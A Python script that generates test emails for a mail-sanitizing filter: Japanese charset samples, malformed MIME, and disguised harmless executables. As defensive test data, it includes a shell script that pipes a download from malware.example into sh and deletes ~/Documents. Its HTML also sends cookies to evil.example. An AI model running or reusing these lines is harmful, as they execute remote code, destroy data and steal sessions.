#!/usr/bin/python3
"""Writes mugai's sample corpus: samples/mail/*.eml, samples/files/* and samples/README.md.

Standard library only and deterministic (fixed dates, ids and bytes): running it again must give
byte-identical files, so the committed samples can be checked with `git diff --exit-code`.

Every mail here is built by hand, byte by byte, the way real senders emit it (Outlook's
ISO-2022-JP with NEC row 13, Becky!'s RFC 2047 words inside quoted parameters, CP932 labelled
Shift_JIS ...), because a library would "fix" exactly the things these samples exist to test.

Two hostile inputs are NOT written here and never committed: the EICAR test string (anti-virus
scanners flag repositories holding it) and the 1 MB header line (size). tests/golden/golden_lib.py
generates them at test time into the build directory.

Usage: /usr/bin/python3 samples/generate.py [--check]
  --check: regenerate into memory and fail if any committed sample differs or is missing.
"""
import base64
import binascii
import os
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
CRLF = b"\r\n"
DATE = "Mon, 01 Apr 2024 09:00:00 +0900"
SENDER = "sender@example.com"
RECIPIENT = "soumu@city.example.jp"

CASES = []  # (directory, file name, bytes, description)


def case(directory, name, description):
    """Decorator: registers a function returning the sample's bytes."""
    def register(build):
        CASES.append((directory, name, build, description))
        return build
    return register


# ---------------------------------------------------------------------------------------------
# Encoders, written out so that each sample shows exactly what the sender put on the wire.

def sjis_to_jis(s1, s2):
    """One CP932 double-byte character to its JIS X 0208 row/cell bytes (NEC row 13 included)."""
    if s1 >= 0xE0:
        s1 -= 0x40
    j1 = (s1 - 0x81) * 2 + 0x21
    if s2 >= 0x9F:
        return bytes([j1 + 1, s2 - 0x7E])
    return bytes([j1, s2 - 0x1F if s2 < 0x7F else s2 - 0x20])


def iso2022jp(text):
    """ISO-2022-JP as Outlook writes it: JIS X 0208 through ESC $ B, including NEC row 13
    (① ㈱ ㍻), which Python's own iso2022_jp codec refuses. Ends in ASCII, as RFC 1468 demands
    at the end of every line and every encoded word."""
    out = bytearray()
    mode = "ascii"
    for ch in text:
        if ord(ch) < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out.append(ord(ch))
            continue
        sjis = ch.encode("cp932")
        if len(sjis) != 2 or not (0x81 <= sjis[0] <= 0x84 or 0x87 <= sjis[0] <= 0x9F
                                  or 0xE0 <= sjis[0] <= 0xEA):
            raise ValueError("not in JIS X 0208 + NEC row 13: %r" % ch)
        if mode != "jis":
            out += b"\x1b$B"
            mode = "jis"
        out += sjis_to_jis(*sjis)
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def iso2022jp_lines(text):
    return CRLF.join(iso2022jp(line) for line in text.split("\n"))


def wrap_b64(data, width=76):
    encoded = base64.b64encode(data)
    return CRLF.join(encoded[i:i + width] for i in range(0, len(encoded), width)) + CRLF


def qp(data):
    """Quoted-printable (RFC 2045) of bytes whose lines are separated by CRLF: soft breaks at 76."""
    out_lines = []
    for line in data.split(CRLF):
        encoded = ""
        for i, byte in enumerate(line):
            last = i == len(line) - 1
            if (33 <= byte <= 126 and byte != 61) or (byte in (9, 32) and not last):
                piece = chr(byte)
            else:
                piece = "=%02X" % byte
            if len(encoded) + len(piece) > 75:
                out_lines.append(encoded + "=")
                encoded = ""
            encoded += piece
        out_lines.append(encoded)
    return "\r\n".join(out_lines).encode("ascii") + CRLF


def word_b(charset, raw):
    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode("ascii"))


def words_iso2022jp(text, chunk=10):
    """RFC 2047 B words, each a complete ISO-2022-JP sequence (back to ASCII at its end)."""
    return [word_b("ISO-2022-JP", iso2022jp(text[i:i + chunk])) for i in range(0, len(text), chunk)]


def words_utf8(text, chunk=12):
    return [word_b("UTF-8", text[i:i + chunk].encode("utf-8")) for i in range(0, len(text), chunk)]


def fold(words):
    """Encoded words joined by folding whitespace (CRLF SP), as long subjects are sent."""
    return "\r\n ".join(words)


def pct(raw):
    """RFC 2231 percent-encoding: attribute-chars stay, everything else %XX."""
    safe = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#$&+-.^_`|~"
    return "".join(chr(b) if b in safe else "%%%02X" % b for b in raw)


def uuencode(name, data):
    lines = [("begin 644 %s" % name).encode("ascii")]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i:i + 45], backtick=True).rstrip(b"\n"))
    lines += [b"`", b"end"]
    return CRLF.join(lines)


def message(headers, body):
    """Header fields (name, value as str or bytes) + CRLF + body bytes."""
    out = bytearray()
    for name, value in headers:
        out += name.encode("ascii") + b": "
        out += value if isinstance(value, bytes) else value.encode("ascii")
        out += CRLF
    return bytes(out) + CRLF + body


def top_headers(case_name, subject="sample", extra=()):
    return [("From", "Sender <%s>" % SENDER), ("To", RECIPIENT), ("Subject", subject),
            ("Date", DATE), ("Message-ID", "<%s@samples.mugai.example>" % case_name),
            ("MIME-Version", "1.0")] + list(extra)


def multipart(boundary, parts, preamble=b"", closed=True):
    out = bytearray(preamble)
    for part in parts:
        out += b"--" + boundary.encode("ascii") + CRLF + part + CRLF
    if closed:
        out += b"--" + boundary.encode("ascii") + b"--" + CRLF
    return bytes(out)


def part(headers, body):
    """One body part; its trailing line break belongs to the next boundary delimiter."""
    return message(headers, body.rstrip(b"\r\n"))


# ---------------------------------------------------------------------------------------------
# Binary payloads, built field by field so that their provenance is this file.

def pe_executable():
    """A minimal PE32 (1,024 bytes) with the real layout: MZ header, DOS stub, PE signature, COFF
    header, optional header, one .text section whose code is `xor eax,eax; ret` (does nothing)."""
    dos = bytearray(0x80)
    struct.pack_into("<2sHHHHHHHHHHHHH", dos, 0, b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8,
                     0, 0, 0, 0x40, 0)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21" \
           b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40:0x40 + len(stub)] = stub
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x014C, 1, 0x65F0C000, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
                           0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000, 0x400000,
                           0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2, 0x8140,
                           0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    optional += b"\x00" * (16 * 8)
    section = struct.pack("<8sIIIIIIHHI", b".text", 0x10, 0x1000, 0x200, 0x200, 0, 0, 0, 0,
                          0x60000020)
    headers = bytes(dos) + coff + optional + section
    code = b"\x31\xc0\xc3"
    return headers.ljust(0x200, b"\x00") + code.ljust(0x200, b"\x00")


def elf_executable():
    """A minimal x86-64 ELF executable (129 bytes): header, one PT_LOAD, code = exit(0)."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"
    size = 64 + 56 + len(code)
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\x00" * 8
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    return header + phdr + code


def minimal_pdf(text):
    """A small valid PDF (one page, one line of Helvetica text) with a correct xref table."""
    stream = ("BT /F1 18 Tf 72 720 Td (%s) Tj ET" % text).encode("ascii")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def png_1x1():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x1e\x50\xa0", 9)) + chunk(b"IEND", b""))


SHELL_SCRIPT = (b"#!/bin/sh\n# installer\ncurl -s http://malware.example/x | sh\n"
                b"rm -rf \"$HOME/Documents\"\n")

# ---------------------------------------------------------------------------------------------
# Japanese text mail in every charset a municipality receives.

NEC_TEXT = ("総務課 各位\n"
            "\n"
            "お疲れ様です。㈱山田商事の件でご連絡します。\n"
            "議題は次のとおりです。\n"
            "① 予算案の確認\n"
            "② 住民説明会の日程\n"
            "③ ㍻三十年度の記録の整理\n"
            "\n"
            "以上、よろしくお願いいたします。")


@case("mail", "jp-iso2022jp-nec.eml",
      "ISO-2022-JP text as Outlook sends it, including NEC row 13 (① ㈱ ㍻) in body and Subject; "
      "glibc iconv garbles these, ICU must not.")
def jp_iso2022jp_nec():
    subject = fold(words_iso2022jp("【ご案内】①㈱山田商事との会議（㍻の記録）"))
    headers = top_headers("jp-iso2022jp-nec", subject,
                          [("Content-Type", "text/plain; charset=ISO-2022-JP"),
                           ("Content-Transfer-Encoding", "7bit")])
    return message(headers, iso2022jp_lines(NEC_TEXT) + CRLF)


CP932_TEXT = ("髙橋様、﨑山様\n"
              "\n"
              "いつもお世話になっております。㈱川崎製作所の件です。\n"
              "日程：４月１日～４月５日\n"
              "① 見積書　② 納品書　③ 請求書 を送付します。\n"
              "半角カナ：ｼﾞｮｳﾎｳｶ")


@case("mail", "jp-shift_jis-cp932.eml",
      "Body labelled charset=Shift_JIS but holding CP932 bytes (① ㈱ 髙 﨑 ～ and half-width kana), "
      "8bit transfer encoding, as Windows mailers send it.")
def jp_shift_jis_cp932():
    headers = top_headers("jp-shift_jis-cp932", fold(words_utf8("髙橋様への見積書")),
                          [("Content-Type", "text/plain; charset=Shift_JIS"),
                           ("Content-Transfer-Encoding", "8bit")])
    return message(headers, CP932_TEXT.replace("\n", "\r\n").encode("cp932") + CRLF)


W31J_TEXT = ("№１２３ のお問い合わせについて\n"
             "電話：℡ 03-1234-5678\n"
             "ⅰ．申請書　ⅱ．添付書類　ⅲ．委任状\n"
             "～以上～")


@case("mail", "jp-windows-31j.eml",
      "Body labelled charset=windows-31j (Java's name for CP932), base64, with IBM/NEC extension "
      "characters (№ ℡ ⅰ ⅱ ⅲ ～).")
def jp_windows_31j():
    headers = top_headers("jp-windows-31j", "windows-31j",
                          [("Content-Type", "text/plain; charset=\"windows-31j\""),
                           ("Content-Transfer-Encoding", "base64")])
    return message(headers, wrap_b64(W31J_TEXT.replace("\n", "\r\n").encode("cp932")))


EUC_TEXT = ("住民票の写しの交付について\n"
            "窓口は市民課（本庁舎１階）です。\n"
            "ｶﾀｶﾅ表記の半角文字も含みます。")


@case("mail", "jp-euc-jp.eml",
      "EUC-JP body (8bit) including half-width katakana through SS2, as older Unix mailers send.")
def jp_euc_jp():
    headers = top_headers("jp-euc-jp", fold(words_iso2022jp("住民票の写し")),
                          [("Content-Type", "text/plain; charset=EUC-JP"),
                           ("Content-Transfer-Encoding", "8bit")])
    return message(headers, EUC_TEXT.replace("\n", "\r\n").encode("euc_jp") + CRLF)


UTF8_TEXT = ("𠮷野さんへ\n"
             "昨日は𠮷野家でお昼を食べました🍚。\n"
             "家族👨\u200d👩\u200d👧で行きました😀。\n"
             "つちよし「𠮷」は第三水準外の字です。")


@case("mail", "jp-utf8-emoji.eml",
      "UTF-8 quoted-printable body with characters outside the BMP (𠮷, emoji, a ZWJ family).")
def jp_utf8_emoji():
    headers = top_headers("jp-utf8-emoji", fold(words_utf8("𠮷野さんへ😀")),
                          [("Content-Type", "text/plain; charset=utf-8"),
                           ("Content-Transfer-Encoding", "quoted-printable")])
    return message(headers, qp(UTF8_TEXT.replace("\n", "\r\n").encode("utf-8")))


@case("mail", "jp-rfc2047-headers.eml",
      "RFC 2047 words in Subject (ISO-2022-JP, folded over several words, NEC row 13), From and "
      "To (UTF-8 B and Q), and Cc (ISO-2022-JP); body is UTF-8 base64.")
def jp_rfc2047_headers():
    subject = fold(words_iso2022jp("【重要】①来週の会議について（㈱山田商事）", chunk=7))
    from_ = "%s <yamada@example.jp>" % word_b("UTF-8", "山田 太郎".encode("utf-8"))
    to = "=?UTF-8?Q?%s?= <%s>" % ("".join("=%02X" % b for b in "総務課".encode("utf-8")), RECIPIENT)
    cc = "%s <kikaku@city.example.jp>" % words_iso2022jp("企画課")[0]
    headers = [("From", from_), ("To", to), ("Cc", cc), ("Subject", subject), ("Date", DATE),
               ("Message-ID", "<jp-rfc2047-headers@samples.mugai.example>"),
               ("MIME-Version", "1.0"),
               ("Content-Type", "text/plain; charset=UTF-8"),
               ("Content-Transfer-Encoding", "base64")]
    return message(headers, wrap_b64("件名と差出人が日本語のメールです。\r\n".encode("utf-8")))


@case("mail", "raw-8bit-subject.eml",
      "Subject and From display name as raw UTF-8 bytes without RFC 2047 (common from badly "
      "configured senders); output headers must be 7-bit and decode to the same text.")
def raw_8bit_subject():
    headers = [("From", "佐藤 花子 <sato@example.jp>".encode("utf-8")), ("To", RECIPIENT),
               ("Subject", "会議の件（再送）".encode("utf-8")), ("Date", DATE),
               ("Message-ID", "<raw-8bit-subject@samples.mugai.example>"), ("MIME-Version", "1.0"),
               ("Content-Type", "text/plain; charset=UTF-8"), ("Content-Transfer-Encoding", "8bit")]
    return message(headers, "本文です。\r\n".encode("utf-8"))


# ---------------------------------------------------------------------------------------------
# HTML and multipart structure.

HTML_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>お知らせ</title>
<style>body { color: red; background: url(http://tracker.example/bg.png) }</style>
<script>document.location = "http://evil.example/steal?c=" + document.cookie;</script>
</head>
<body onload="alert('onload')">
<h1>市民課からのお知らせ</h1>
<p>いつもご利用ありがとうございます。<b>窓口の受付時間</b>が変わります。</p>
<ul>
<li>平日：8時30分～17時15分</li>
<li>土曜：9時～12時</li>
</ul>
<table border="1">
<tr><th>手続き</th><th>窓口</th></tr>
<tr><td>住民票</td><td>1番</td></tr>
<tr><td>印鑑証明</td><td>2番</td></tr>
</table>
<p>詳しくは<a href="https://www.city.example.jp/info">市のホームページ</a>をご覧ください。</p>
<p><a href="javascript:alert('xss')" onclick="steal()">ここをクリック</a></p>
<img src="http://tracker.example/pixel.gif?id=12345" width="1" height="1" alt="">
<script type="text/javascript">new Image().src = "http://evil.example/beacon";</script>
</body></html>
"""


@case("mail", "html-only.eml",
      "HTML-only mail (UTF-8, quoted-printable) with <script>, <style>, onload/onclick, a "
      "javascript: link, a tracking pixel, a table and a list; must become readable text.")
def html_only():
    headers = top_headers("html-only", fold(words_utf8("市民課からのお知らせ")),
                          [("Content-Type", "text/html; charset=UTF-8"),
                           ("Content-Transfer-Encoding", "quoted-printable")])
    return message(headers, qp(HTML_PAGE.replace("\n", "\r\n").encode("utf-8")))


ALT_TEXT = "会議資料を送付します。\nテキスト版の本文です。"
ALT_HTML = ("<html><body><p>会議資料を送付します。</p><p>HTMLだけにある段落です。</p>"
            "<script>alert(1)</script></body></html>")


@case("mail", "alternative.eml",
      "multipart/alternative: ISO-2022-JP text/plain and UTF-8 text/html; the text version is kept.")
def alternative():
    headers = top_headers("alternative", "alternative",
                          [("Content-Type", "multipart/alternative; boundary=\"alt-boundary\"")])
    parts = [
        part([("Content-Type", "text/plain; charset=ISO-2022-JP"), ("Content-Transfer-Encoding", "7bit")],
             iso2022jp_lines(ALT_TEXT)),
        part([("Content-Type", "text/html; charset=UTF-8"), ("Content-Transfer-Encoding", "base64")],
             wrap_b64(ALT_HTML.encode("utf-8"))),
    ]
    return message(headers, multipart("alt-boundary", parts, b"This is a multi-part message in MIME format.\r\n"))


@case("mail", "related-alternative.eml",
      "multipart/related holding multipart/alternative (text + HTML with a cid: image) and the "
      "inline PNG it references (Outlook's layout for HTML mail with a logo).")
def related_alternative():
    headers = top_headers("related-alternative", "related",
                          [("Content-Type", "multipart/related; type=\"multipart/alternative\"; "
                                            "boundary=\"rel\"")])
    html = ("<html><body><p><img src=\"cid:logo@city.example.jp\" alt=\"市章\"></p>"
            "<p>広報誌の最新号ができました。</p></body></html>")
    alt = multipart("alt", [
        part([("Content-Type", "text/plain; charset=UTF-8"), ("Content-Transfer-Encoding", "8bit")],
             "広報誌の最新号ができました。".encode("utf-8")),
        part([("Content-Type", "text/html; charset=UTF-8"), ("Content-Transfer-Encoding", "8bit")],
             html.encode("utf-8")),
    ])
    parts = [
        part([("Content-Type", "multipart/alternative; boundary=\"alt\"")], alt),
        part([("Content-Type", "image/png; name=\"logo.png\""), ("Content-Transfer-Encoding", "base64"),
              ("Content-ID", "<logo@city.example.jp>"), ("Content-Disposition", "inline; filename=\"logo.png\"")],
             wrap_b64(png_1x1())),
    ]
    return message(headers, multipart("rel", parts))


def mixed(case_name, body_part, attachments, subject="attachment"):
    headers = top_headers(case_name, subject,
                          [("Content-Type", "multipart/mixed; boundary=\"mix-%s\"" % case_name)])
    return message(headers, multipart("mix-" + case_name, [body_part] + attachments))


def text_part(text, charset="UTF-8"):
    if charset == "ISO-2022-JP":
        return part([("Content-Type", "text/plain; charset=ISO-2022-JP"),
                     ("Content-Transfer-Encoding", "7bit")], iso2022jp_lines(text))
    return part([("Content-Type", "text/plain; charset=UTF-8"), ("Content-Transfer-Encoding", "base64")],
                wrap_b64(text.replace("\n", "\r\n").encode("utf-8")))


# ---------------------------------------------------------------------------------------------
# Attachments with Japanese names, every way they are encoded in the wild.

@case("mail", "att-outlook-rfc2047-quoted.eml",
      "PDF attachment named 会議資料.pdf with RFC 2047 ISO-2022-JP words inside the quoted name= "
      "and filename= parameters (not allowed by RFC 2047, but what Outlook sends).")
def att_outlook():
    name = words_iso2022jp("会議資料.pdf")[0]
    return mixed("att-outlook-rfc2047-quoted", text_part("資料を添付します。", "ISO-2022-JP"), [
        part([("Content-Type", "application/pdf; name=\"%s\"" % name),
              ("Content-Transfer-Encoding", "base64"),
              ("Content-Disposition", "attachment; filename=\"%s\"" % name)],
             wrap_b64(minimal_pdf("Meeting minutes"))),
    ])


GIJIROKU = "議事録\n出席者：髙橋、﨑山、山田\n① 予算について承認\n② 次回は４月１０日"


@case("mail", "att-becky-sjis-quoted.eml",
      "Text attachment 議事録.txt in CP932 whose name is an RFC 2047 Shift_JIS word inside quotes "
      "(Becky!); a text attachment is kept, converted to UTF-8.")
def att_becky():
    name = word_b("Shift_JIS", "議事録.txt".encode("cp932"))
    return mixed("att-becky-sjis-quoted", text_part("議事録を送ります。", "ISO-2022-JP"), [
        part([("Content-Type", "text/plain; charset=\"Shift_JIS\"; name=\"%s\"" % name),
              ("Content-Disposition", "attachment; filename=\"%s\"" % name),
              ("Content-Transfer-Encoding", "base64")],
             wrap_b64(GIJIROKU.replace("\n", "\r\n").encode("cp932"))),
    ])


SHINSEI = "申請書の記入例です。\n氏名欄には𠮷田太郎のように記入してください。"


@case("mail", "att-rfc2231-utf8.eml",
      "Text attachment 申請書（記入例）.txt named with RFC 2231 UTF-8 (filename*=UTF-8'ja'...).")
def att_rfc2231_utf8():
    encoded = pct("申請書（記入例）.txt".encode("utf-8"))
    return mixed("att-rfc2231-utf8", text_part("申請書の記入例を添付します。"), [
        part([("Content-Type", "text/plain; charset=UTF-8"),
              ("Content-Disposition", "attachment; filename*=UTF-8'ja'%s" % encoded),
              ("Content-Transfer-Encoding", "base64")],
             wrap_b64(SHINSEI.replace("\n", "\r\n").encode("utf-8"))),
    ])


MITSUMORI = "見積書\n合計金額：１２３，４５６円（税込）"


@case("mail", "att-rfc2231-iso2022jp-split.eml",
      "Text attachment 見積書_2024年度.txt named with RFC 2231 ISO-2022-JP continuations; the "
      "first split falls inside the ESC $ B escape sequence, the second inside a two-byte "
      "character: the segments must be joined as bytes before decoding.")
def att_rfc2231_split():
    raw = iso2022jp("見積書_2024年度.txt")
    assert raw.startswith(b"\x1b$B")
    pieces = [raw[:2], raw[2:5], raw[5:]]  # ESC $ | B + 1.5 characters | rest
    params = ";\r\n ".join("filename*%d*=%s%s" % (i, "ISO-2022-JP''" if i == 0 else "", pct(p))
                           for i, p in enumerate(pieces))
    return mixed("att-rfc2231-iso2022jp-split", text_part("見積書です。", "ISO-2022-JP"), [
        part([("Content-Type", "text/plain; charset=UTF-8"),
              ("Content-Disposition", "attachment;\r\n " + params),
              ("Content-Transfer-Encoding", "base64")],
             wrap_b64(MITSUMORI.replace("\n", "\r\n").encode("utf-8"))),
    ])


KENSA = "検査結果の報告\n水質検査の結果、基準値を満たしていました。"


@case("mail", "att-cp932-com-lookalike.eml",
      "CP932 text attachment 検査結果.txt (application/octet-stream, as many mailers label .txt) "
      "that starts with 検 (0x8C 0x9F): libmagic guesses \"DOS executable (COM)\" from that "
      "first byte. It is text and must be kept as UTF-8, not rejected as a program.")
def att_cp932_com_lookalike():
    name = word_b("Shift_JIS", "検査結果.txt".encode("cp932"))
    body = KENSA.replace("\n", "\r\n").encode("cp932")
    assert body.startswith(b"\x8c\x9f")
    return mixed("att-cp932-com-lookalike", text_part("検査結果を送ります。", "ISO-2022-JP"), [
        part([("Content-Type", "application/octet-stream; name=\"%s\"" % name),
              ("Content-Disposition", "attachment; filename=\"%s\"" % name),
              ("Content-Transfer-Encoding", "base64")],
             wrap_b64(body)),
    ])


@case("mail", "name-controls-text.eml",
      "Text attachment whose RFC 2231 name holds path separators, a BEL control and U+202E "
      "(\"../..\\\\\u202eメモ\\a.txt\"): the delivered name must have none of them.")
def name_controls_text():
    name = "../..\\\u202eメモ\a.txt"
    return mixed("name-controls-text", text_part("メモを添付します。"), [
        part([("Content-Type", "text/plain; charset=UTF-8"),
              ("Content-Disposition", "attachment; filename*=UTF-8''%s" % pct(name.encode("utf-8"))),
              ("Content-Transfer-Encoding", "base64")],
             wrap_b64("買い物メモ：牛乳、卵".encode("utf-8"))),
    ])


# ---------------------------------------------------------------------------------------------
# Executables and scripts, disguised.

@case("mail", "exe-disguised-pdf.eml",
      "A PE executable (minimal valid-looking MZ/PE32 header) declared application/pdf and named "
      "請求書.pdf (RFC 2047 in quotes): executables by content reject the whole message.")
def exe_disguised_pdf():
    name = words_iso2022jp("請求書.pdf")[0]
    return mixed("exe-disguised-pdf", text_part("請求書を送付します。", "ISO-2022-JP"), [
        part([("Content-Type", "application/pdf; name=\"%s\"" % name),
              ("Content-Disposition", "attachment; filename=\"%s\"" % name),
              ("Content-Transfer-Encoding", "base64")], wrap_b64(pe_executable())),
    ])


@case("mail", "exe-double-extension.eml",
      "invoice.pdf.exe holding PDF bytes, declared application/octet-stream: a double extension "
      "ending in .exe is handled as an executable whatever the bytes.")
def exe_double_extension():
    return mixed("exe-double-extension", text_part("Invoice attached."), [
        part([("Content-Type", "application/octet-stream; name=\"invoice.pdf.exe\""),
              ("Content-Disposition", "attachment; filename=\"invoice.pdf.exe\""),
              ("Content-Transfer-Encoding", "base64")], wrap_b64(minimal_pdf("Invoice"))),
    ])


@case("mail", "exe-bidi-rlo.eml",
      "A PE executable named \"abc\\u202efdp.exe\" (right-to-left override: displays as "
      "abcexe.pdf), name in RFC 2231 UTF-8.")
def exe_bidi_rlo():
    name = pct("abc\u202efdp.exe".encode("utf-8"))
    return mixed("exe-bidi-rlo", text_part("See attached document."), [
        part([("Content-Type", "application/octet-stream"),
              ("Content-Disposition", "attachment; filename*=UTF-8''%s" % name),
              ("Content-Transfer-Encoding", "base64")], wrap_b64(pe_executable())),
    ])


@case("mail", "exe-elf.eml",
      "A minimal x86-64 ELF executable attached as application/octet-stream named \"update\".")
def exe_elf():
    return mixed("exe-elf", text_part("Please run the update."), [
        part([("Content-Type", "application/octet-stream; name=\"update\""),
              ("Content-Disposition", "attachment; filename=\"update\""),
              ("Content-Transfer-Encoding", "base64")], wrap_b64(elf_executable())),
    ])


@case("mail", "script-sh.eml",
      "A shell script attachment install.sh (text/x-sh): scripts are removed, the mail delivered.")
def script_sh():
    return mixed("script-sh", text_part("インストール手順を添付します。"), [
        part([("Content-Type", "text/x-sh; name=\"install.sh\""),
              ("Content-Disposition", "attachment; filename=\"install.sh\""),
              ("Content-Transfer-Encoding", "7bit")], SHELL_SCRIPT.replace(b"\n", CRLF)),
    ])


@case("mail", "uuencode-exe-in-text.eml",
      "A uuencoded PE executable (setup.exe) inside an ordinary text/plain body, between two "
      "paragraphs: uuencoded blocks are attachments, and this one is an executable.")
def uuencode_exe():
    body = (("セットアップファイルを送ります。\r\n\r\n").encode("utf-8")
            + uuencode("setup.exe", pe_executable()) + CRLF
            + "\r\nよろしくお願いします。\r\n".encode("utf-8"))
    headers = top_headers("uuencode-exe-in-text", "uuencode",
                          [("Content-Type", "text/plain; charset=UTF-8"),
                           ("Content-Transfer-Encoding", "8bit")])
    return message(headers, body)


@case("mail", "uuencode-png-in-text.eml",
      "A uuencoded PNG (photo.png) inside a text/plain body: the block is an attachment (removed "
      "under lgwan-strict); the text around it stays.")
def uuencode_png():
    body = (("写真を送ります。\r\n\r\n").encode("utf-8")
            + uuencode("photo.png", png_1x1()) + CRLF
            + "\r\n以上です。\r\n".encode("utf-8"))
    headers = top_headers("uuencode-png-in-text", "uuencode",
                          [("Content-Type", "text/plain; charset=UTF-8"),
                           ("Content-Transfer-Encoding", "8bit")])
    return message(headers, body)


@case("mail", "forwarded-rfc822.eml",
      "A forwarded message/rfc822 attachment holding a Japanese ISO-2022-JP mail that is itself "
      "multipart/alternative with an HTML part carrying <script>.")
def forwarded_rfc822():
    inner_alt = multipart("inner-alt", [
        part([("Content-Type", "text/plain; charset=ISO-2022-JP")], iso2022jp_lines("転送元の本文です。\n① 確認済み")),
        part([("Content-Type", "text/html; charset=UTF-8")],
             "<p>転送元のHTMLです</p><script>alert(2)</script>".encode("utf-8")),
    ])
    inner = message([("From", "Tanaka <tanaka@example.org>"), ("To", SENDER),
                     ("Subject", fold(words_iso2022jp("転送元の件名"))), ("Date", DATE),
                     ("Message-ID", "<inner@samples.mugai.example>"), ("MIME-Version", "1.0"),
                     ("Content-Type", "multipart/alternative; boundary=\"inner-alt\"")], inner_alt)
    return mixed("forwarded-rfc822", text_part("転送します。"), [
        part([("Content-Type", "message/rfc822"),
              ("Content-Disposition", "attachment; filename=\"forwarded.eml\"")], inner),
    ], subject="Fwd")


# ---------------------------------------------------------------------------------------------
# Malformed structure. Each must give a stated repair or a specific rejection.

@case("mail", "malformed-missing-boundary.eml",
      "multipart/mixed without a boundary parameter; the body holds what looks like a text part "
      "and an HTML part with <script>.")
def malformed_missing_boundary():
    body = (b"--lost\r\nContent-Type: text/plain\r\n\r\nvisible text\r\n"
            b"--lost\r\nContent-Type: text/html\r\n\r\n<script>alert(3)</script>\r\n--lost--\r\n")
    return message(top_headers("malformed-missing-boundary", "no boundary",
                               [("Content-Type", "multipart/mixed")]), body)


@case("mail", "malformed-unterminated-boundary.eml",
      "multipart/mixed whose last part (text) has no closing boundary: the message simply ends.")
def malformed_unterminated():
    parts = [text_part("最初のパートです。"), text_part("終わりの境界がないパートです。")]
    return message(top_headers("malformed-unterminated-boundary", "unterminated",
                               [("Content-Type", "multipart/mixed; boundary=\"open\"")]),
                   multipart("open", parts, closed=False))


@case("mail", "malformed-unterminated-boundary-exe.eml",
      "As above, but the unterminated last part is a base64 PE executable named report.pdf: "
      "a truncated structure must not hide an executable.")
def malformed_unterminated_exe():
    parts = [text_part("報告書です。"),
             part([("Content-Type", "application/pdf; name=\"report.pdf\""),
                   ("Content-Transfer-Encoding", "base64")], wrap_b64(pe_executable()))]
    return message(top_headers("malformed-unterminated-boundary-exe", "unterminated",
                               [("Content-Type", "multipart/mixed; boundary=\"open\"")]),
                   multipart("open", parts, closed=False))


@case("mail", "malformed-nesting-2000.eml",
      "2,000 nested multipart/mixed levels with a PE executable at the bottom (mimetic overflows "
      "its stack on deeper nesting; GMime stops at 1,024 silently).")
def malformed_nesting():
    depth = 2000
    inner = part([("Content-Type", "application/octet-stream; name=\"deep.exe\""),
                  ("Content-Transfer-Encoding", "base64")], wrap_b64(pe_executable()))
    for level in range(depth - 1, 0, -1):
        b = "n%d" % level
        inner = (b"Content-Type: multipart/mixed; boundary=" + b.encode() + CRLF + CRLF
                 + b"--" + b.encode() + CRLF + inner + CRLF + b"--" + b.encode() + b"--")
    headers = top_headers("malformed-nesting-2000", "deep",
                          [("Content-Type", "multipart/mixed; boundary=n0")])
    return message(headers, b"--n0\r\n" + inner + b"\r\n--n0--\r\n")


@case("mail", "malformed-siblings-5000.eml",
      "5,000 sibling text parts, then a PE executable as part 5,001: a part-count limit must not "
      "turn into \"ignore the rest\".")
def malformed_siblings():
    parts = [b"Content-Type: text/plain\r\n\r\n%d" % i for i in range(1, 5001)]
    parts.append(part([("Content-Type", "application/octet-stream; name=\"last.exe\""),
                       ("Content-Transfer-Encoding", "base64")], wrap_b64(pe_executable())))
    return message(top_headers("malformed-siblings-5000", "many",
                               [("Content-Type", "multipart/mixed; boundary=s")]),
                   multipart("s", parts))


@case("mail", "malformed-nul-bytes.eml",
      "NUL bytes inside the Subject header and inside an 8bit UTF-8 text body.")
def malformed_nul():
